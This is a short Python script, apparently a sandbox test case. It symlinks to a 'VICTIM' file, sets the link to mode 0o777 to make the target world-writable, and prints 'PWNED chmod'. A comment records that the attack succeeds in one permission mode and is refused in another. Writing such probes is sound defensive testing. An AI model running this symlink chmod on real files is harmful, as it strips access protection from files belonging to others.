# changes the mode of the author's file through a link | basic: works finished | auto: refused error
import os

os.symlink(VICTIM, "link")
os.chmod("link", 0o777)
print("PWNED chmod")
